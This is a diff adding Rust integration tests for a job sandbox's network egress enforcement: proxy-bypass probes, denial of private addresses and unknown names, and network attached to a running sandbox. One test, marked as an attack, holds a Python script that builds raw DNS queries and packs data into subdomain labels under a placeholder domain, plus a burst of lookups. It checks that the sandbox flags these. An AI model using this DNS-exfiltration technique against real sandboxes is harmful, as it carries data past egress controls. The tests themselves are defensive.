@@ -194,6 +194,120 @@ fn log(place: &Place, id: &str, count: usize) -> Vec<Value> {
     records
 }
 
+/// The same as [`direct`], as a command line, with what is said of it on standard output.
+fn direct_line(url: &str) -> String {
+    format!(
+        "import urllib.request as u, urllib.error as e\n\
+         u.install_opener(u.build_opener(u.ProxyHandler({{}})))\n\
+         try: print(u.urlopen('{url}', timeout=40).read().decode())\n\
+         except e.URLError as why: print(why.reason.__class__.__name__)"
+    )
+}
+
+/// The clause of a job or a sandbox that says how it has its network.
+fn network_clause(view: &Value) -> String {
+    let clauses = view["enforcement"].as_array().cloned().unwrap_or_default();
+    let network = clauses.iter().find(|one| one["clause"] == "network");
+    let how = network.and_then(|one| one["how"].as_str());
+    how.unwrap_or_default().to_owned()
+}
+
+#[test]
+fn a_program_of_a_job_that_knows_no_proxy_reaches_what_the_job_may_also_on_a_spare() {
+    if !can_ask() {
+        return;
+    }
+    let Some(own) = own_address() else {
+        println!("skipped: there is no device, or no address of this machine");
+        return;
+    };
+    let place = Place::new();
+    let port = server();
+    let allow = format!("{own}:{port}");
+    let devices = "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' \n'";
+    for spares in ["0", "2"] {
+        let _up = place.up(&["--egress-allow", &allow, "--spares", spares], &[]);
+        let ask = direct_line(&format!("http://{own}:{port}/"));
+        let run = |argv: &[&str]| {
+            let all = [&["run", "--json", "--allow", &allow, "--"][..], argv].concat();
+            let out = place.run(&all);
+            serde_json::from_slice::<Value>(&out.stdout).expect("a job")
+        };
+        let job = run(&["python3", "-c", &ask]);
+        assert_eq!(job["stdout"]["text"], "ok\n", "{job}");
+        let how = network_clause(&job);
+        assert!(
+            how.ends_with("TUN device, DNS inside, egress proxy"),
+            "{how}"
+        );
+        // Another port, a private address, and a name that the rules do not know.
+        for url in [
+            format!("http://{own}:{}/", port ^ 1),
+            format!("http://10.0.0.1:{port}/"),
+        ] {
+            let job = run(&["python3", "-c", &direct_line(&url)]);
+            assert_eq!(job["stdout"]["text"], "ConnectionRefusedError\n", "{job}");
+            let id = job["id"].as_str().expect("an id");
+            let records = log(&place, id, 1);
+            assert_eq!(records[0]["method"], "direct");
+            assert_eq!(records[0]["code"], "host_not_allowed");
+            assert_eq!(records[0]["job_id"], json!(id));
+        }
+        let job = run(&["python3", "-c", &direct_line("http://a.example/")]);
+        assert_eq!(job["stdout"]["text"], "gaierror\n", "{job}");
+        let records = log(&place, job["id"].as_str().expect("an id"), 1);
+        assert_eq!(
+            (&records[0]["method"], &records[0]["code"]),
+            (&json!("dns"), &json!("host_not_allowed"))
+        );
+        // Who asks for no network has no device, and nothing was made for it.
+        let out = place.run(&["run", "--", "sh", "-c", devices]);
+        assert_eq!(String::from_utf8_lossy(&out.stdout), "lo");
+    }
+}
+
+/// The attack: names that carry data out of a job, and so many of them that a few bytes in each are a file.
+#[test]
+fn names_of_a_job_carry_no_data_and_are_so_many_in_a_minute() {
+    if !can_ask() {
+        return;
+    }
+    if own_address().is_none() {
+        println!("skipped: there is no device, or no address of this machine");
+        return;
+    }
+    let place = Place::new();
+    let _up = place.up(&["--spares", "0"], &[]);
+    // Names that nobody has: this machine's resolver says so at once, or there is none.
+    let script = "import socket, struct\n\
+        def ask(name):\n    \
+        q = b'\\x12\\x34\\x01\\0\\0\\1' + bytes(6)\n    \
+        for label in name.split('.'): q += bytes([len(label)]) + label.encode()\n    \
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(30)\n    \
+        s.sendto(q + b'\\0\\0\\1\\0\\1', ('198.18.0.1', 53)); return s.recv(999)[3] & 15\n\
+        data = 'abcdefghijklmnopqrstuvwxyz234567'\n\
+        print(ask(data + '.' + data[::-1] + 'x.t.example'))\n\
+        codes = [ask('n%d.invalid' % n) for n in range(301)]\n\
+        print(codes[299] == 5, codes[300])";
+    let line = [
+        "run",
+        "--json",
+        "--net",
+        "unrestricted",
+        "--",
+        "python3",
+        "-c",
+        script,
+    ];
+    let out = place.run(&line);
+    let job: Value = serde_json::from_slice(&out.stdout).expect("a job");
+    assert_eq!(job["stdout"]["text"], "5\nFalse 2\n", "{job}");
+    let id = job["id"].as_str().expect("an id");
+    let records = log(&place, id, 302);
+    let with = |code: &str| records.iter().filter(|one| one["code"] == code).count();
+    assert_eq!((with("name_carries_data"), with("too_many_names")), (1, 1));
+}
+
 #[test]
 fn a_job_reaches_what_it_was_allowed_and_its_denials_are_on_record() {
     if !can_ask() {
@@ -267,6 +381,21 @@ impl Living {
         String::from_utf8_lossy(&out.stdout).trim().to_owned()
     }
 
+    /// What a program says that knows no proxy.
+    fn ask_directly(&self, url: &str) -> String {
+        let args = [
+            "sandbox",
+            "exec",
+            &self.id,
+            "--",
+            "python3",
+            "-c",
+            &direct_line(url),
+        ];
+        let out = self.place.run(&args);
+        String::from_utf8_lossy(&out.stdout).trim().to_owned()
+    }
+
     /// Says the rules anew, and gives what the clause says then.
     fn net(&self, args: &[&str]) -> Value {
         let all = [&["sandbox", "net", &self.id, "--json"][..], args].concat();
@@ -311,6 +440,15 @@ fn rules_of_a_sandbox_change_while_it_lives_and_outlive_the_server() {
     );
     assert_eq!(living.ask(), "403");
     let args = ["egress", "test", "https://127.0.0.1/", "--as", &living.id];
+    // Past the rule that denies it, the operator's exception is known too.
+    assert_eq!(living.net(&["--net", "unrestricted"]), "unrestricted");
+    let tested = living.place.run(&args);
+    let said = String::from_utf8_lossy(&tested.stdout).into_owned();
+    assert!(
+        tested.status.success() && said.contains("operator 127.0.0.1"),
+        "{said}"
+    );
+    living.net(&["--deny", "127.0.0.0/8"]);
     let tested = living.place.run(&args);
     assert_eq!(tested.status.code(), Some(1));
     let said = String::from_utf8_lossy(&tested.stdout).into_owned();
@@ -324,6 +462,43 @@ fn rules_of_a_sandbox_change_while_it_lives_and_outlive_the_server() {
     let some = ["--allow", "127.0.0.1", "--allow", "b.example"];
     assert_eq!(living.net(&some), "allowlist: 2 allowed");
     assert_eq!(living.ask(), "200");
+}
+
+#[test]
+fn a_sandbox_that_gets_its_network_later_gets_all_of_it() {
+    if !can_ask() {
+        return;
+    }
+    let Some(own) = own_address() else {
+        println!("skipped: there is no device, or no address of this machine");
+        return;
+    };
+    let place = Place::new();
+    let up = ["--egress-allow", &own, "--spares", "0"];
+    let first = place.up(&up, &[]);
+    let living = Living::new(place);
+    let url = format!("http://{own}:{}/", living.port);
+    let clause = || network_clause(&living.place.json(&["sandbox", "get", &living.id, "--json"]));
+    assert_eq!(living.ask_directly(&url), "OSError");
+    assert_eq!(clause(), "network namespace");
+    assert_eq!(living.net(&["--allow", &own]), "allowlist: 1 allowed");
+    assert!(until(|| living.ask_directly(&url) == "ok"));
+    assert_eq!(
+        clause(),
+        "network namespace, TUN device, DNS inside, egress proxy"
+    );
+    assert_eq!(
+        living.ask_directly("http://10.0.0.1/"),
+        "ConnectionRefusedError"
+    );
+    first.kill();
+    let _second = living.place.up(&up, &[]);
+    assert!(
+        until(|| living.ask_directly(&url) == "ok"),
+        "also after the server was killed"
+    );
+    assert_eq!(living.net(&["--net", "none"]), "none");
+    assert_eq!(living.ask_directly(&url), "ConnectionRefusedError");
 }
 
 #[test]
